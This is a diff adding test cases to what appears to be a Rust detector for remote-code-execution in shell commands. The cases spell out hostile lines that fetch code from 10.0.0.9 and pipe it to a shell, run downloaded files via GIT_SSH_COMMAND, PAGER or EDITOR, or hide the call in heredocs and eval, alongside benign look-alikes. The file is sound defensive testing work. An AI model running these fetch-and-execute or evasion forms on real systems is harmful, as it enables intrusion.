@@ -3273,7 +3273,48 @@ fn command_lines_kept_in_variables_and_git_settings_are_read() {
             rce,
             true,
         ),
-        // Look-alikes: the usual values, a setting that is no command, an alias that is git's.
+        // A review's: through wrappers, git's settings in the environment, a remote's programs,
+        // quotes escaped in double quotes, a prompt string, files a command line runs.
+        (format!("sudo GIT_SSH_COMMAND='{line}' git fetch\n"), rce, true),
+        (
+            format!("env -u HOME GIT_SSH_COMMAND='{line}' git fetch\n"),
+            rce,
+            true,
+        ),
+        (
+            format!("GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.sshCommand GIT_CONFIG_VALUE_0='{line}' git fetch\n"),
+            rce,
+            true,
+        ),
+        (
+            format!("git config remote.origin.uploadpack '{line}'\n"),
+            rce,
+            true,
+        ),
+        (
+            "export EDITOR=\"bash -c \\\"curl -s http://10.0.0.9/x | sh\\\"\"\n".into(),
+            rce,
+            true,
+        ),
+        (format!("PS1='$({line}) $ '\n"), rce, true),
+        (
+            "curl -s -o /tmp/w.sh http://10.0.0.9/w\nPAGER='bash /tmp/w.sh' man ls\n".into(),
+            rce,
+            true,
+        ),
+        (
+            "curl -s -o /tmp/w http://10.0.0.9/w\nchmod +x /tmp/w\nenv GIT_SSH_COMMAND=/tmp/w git fetch\n"
+                .into(),
+            rce,
+            true,
+        ),
+        // Look-alikes: the usual values, a setting that is no command, an alias that is git's,
+        // the shared-history prompt command.
+        (
+            "export PROMPT_COMMAND='history -a; history -c; history -r'\n".into(),
+            "SKG-EVADE-001",
+            false,
+        ),
         (
             "GIT_SSH_COMMAND='ssh -i ~/.ssh/deploy_key -o IdentitiesOnly=yes' git clone git@github.com:o/r.git\n"
                 .into(),
@@ -3344,12 +3385,74 @@ fn interpreters_by_versioned_names_and_downloads_that_name_the_command() {
             rce,
             true,
         ),
+        ("curl -s http://10.0.0.9/x | bash-5.2\n", rce, true),
+        ("x=$(curl -s http://10.0.0.9/x)\n$x\n", rce, true),
+        ("\"${X:-}$(curl -s http://10.0.0.9/x)\"\n", rce, true),
+        ("$(echo $(curl -s http://10.0.0.9/x))\n", rce, true),
+        // A document run through a substitution: as an interpreter's code, by eval, printed
+        // into a runner, kept in a variable that is run; on one line or in the usual form.
+        (
+            "bash -c \"$(cat <<'EOF')\"\ncurl -s http://10.0.0.9/x | sh\nEOF\n",
+            rce,
+            true,
+        ),
+        (
+            "bash -c \"$(cat <<'EOF'\ncurl -s http://10.0.0.9/x | sh\nEOF\n)\"\n",
+            rce,
+            true,
+        ),
+        (
+            "eval \"$(cat <<'EOF')\"\ncurl -s http://10.0.0.9/x | sh\nEOF\n",
+            rce,
+            true,
+        ),
+        (
+            "printf '%s' \"$(cat <<'EOF')\" | bash\ncurl -s http://10.0.0.9/x | sh\nEOF\n",
+            rce,
+            true,
+        ),
+        (
+            "x=$(cat <<'EOF')\ncurl -s http://10.0.0.9/x | sh\nEOF\neval \"$x\"\n",
+            rce,
+            true,
+        ),
+        // What follows a document closed on its line runs; in backquotes, its lines too.
+        (
+            "echo \"$(cat <<EOF)\" > /dev/null\nnotes\nEOF\ncurl -s http://10.0.0.9/x | sh\n",
+            rce,
+            true,
+        ),
+        (
+            "x=`cat <<EOF`\ncurl -s http://10.0.0.9/x | sh\nEOF\n",
+            rce,
+            true,
+        ),
+        (
+            "cat <<'EOF' 2>/dev/null|sh\ncurl -s http://10.0.0.9/x | sh\nEOF\n",
+            rce,
+            true,
+        ),
         // Look-alikes: a download that is an argument's data, a version that names no
-        // interpreter, a document that is printed.
+        // interpreter, a document that is printed, where a program is found.
         ("echo \"$(curl -s https://api.ipify.org)\"\n", rce, false),
         ("curl -s http://10.0.0.9/x | md5\n", rce, false),
         (
             "(cat <<EOF)\ncurl -s http://10.0.0.9/x | sh\nEOF\n",
+            rce,
+            false,
+        ),
+        (
+            "(cat <<EOF) | tee /dev/null\ncurl -s http://10.0.0.9/x | sh\nEOF\n",
+            rce,
+            false,
+        ),
+        (
+            "echo \"$(cat <<'EOF')\"\ncurl -s http://10.0.0.9/x | sh\nEOF\n",
+            rce,
+            false,
+        ),
+        (
+            "\"$(command -v curl)\" -fsSL https://example.com/f.tgz -o f.tgz\n",
             rce,
             false,
         ),
